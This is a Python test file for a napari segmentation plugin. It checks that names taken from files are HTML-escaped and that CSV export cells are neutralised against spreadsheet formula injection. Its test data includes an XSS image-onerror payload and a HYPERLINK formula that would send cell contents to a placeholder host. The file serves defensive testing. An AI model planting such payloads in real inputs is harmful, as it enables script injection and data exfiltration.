"""Issue 23 item 12: names from files are data, never markup or formulas.

Case, class and engine names are escaped in the dock's rich text (a class called ``<img …>``
is shown as written), and ``provenance.csv`` cells that a spreadsheet would run as a formula
get a leading apostrophe, while ``provenance.json`` keeps every value exactly.
"""

import csv
import json

import pytest

from napari_alseg._qt.describe import describe, model_text, rich
from napari_alseg.domain import QueryItem
from napari_alseg.store import Project
from napari_alseg.store.export import csv_cell
from napari_alseg.strategies import Suggestion
from test_store import make_source, submit_slice

HOSTILE_CLASS = '<img src="x" onerror="alert(1)">'
FORMULA_ANNOTATOR = '=HYPERLINK("http://example.invalid/?"&A1, "click")'


def test_rich_escapes_markup():
    assert rich('a<b>&"c"') == "a&lt;b&gt;&amp;&quot;c&quot;"


def test_the_suggestion_text_shows_names_as_written():
    names = ("background", HOSTILE_CLASS, "<b>bold</b>")
    suggestion = Suggestion(QueryItem("case<i>1</i>", 3, 1), 0.5, "margins<br>", {}, None,
                            message="see <a href=x>")
    text = describe(suggestion, names)
    for raw in (HOSTILE_CLASS, "case<i>1</i>", "margins<br>", "<a href=x>"):
        assert raw not in text
    assert "&lt;img src=&quot;x&quot;" in text and "case&lt;i&gt;1&lt;/i&gt;" in text
    assert text.startswith("<b>") and "<br>" in text  # the markup of our own is kept


def test_the_model_text_escapes_class_names():
    text = model_text("v0001<script>", {"val_dice": 0.5, f"val_dice_{HOSTILE_CLASS}": 0.4})
    assert HOSTILE_CLASS not in text and "<script>" not in text
    assert "&lt;img" in text and "v0001&lt;script&gt;" in text


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("tumour", "tumour"), ("", ""), (-1.5, -1.5), (3, 3), (None, None),
])
def test_csv_cells_that_start_like_a_formula_are_neutralised(value, shown):
    assert csv_cell(value) == shown


def test_provenance_csv_holds_no_live_formula(tmp_path):
    classes = {"0": {"name": "background"}, "1": {"name": "-lesion"}, "2": {"name": "@edema"}}
    source = make_source(tmp_path / "source", n_cases=2, classes=classes)
    with Project.create(tmp_path / "project", source) as project:
        submit_slice(project, annotator=FORMULA_ANNOTATOR, class_id=1)
        project.export(tmp_path / "out")
    with open(tmp_path / "out" / "provenance.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], cells
    assert rows[0]["annotator"] == "'" + FORMULA_ANNOTATOR
    kept = json.loads((tmp_path / "out" / "provenance.json").read_text())
    assert kept["events"][0]["annotator"] == FORMULA_ANNOTATOR  # the JSON keeps values exactly
    assert [c["name"] for c in kept["classes"]] == ["background", "-lesion", "@edema"]
    assert rows[0]["class_name"] == "'-lesion" and kept["events"][0]["class_name"] == "-lesion"
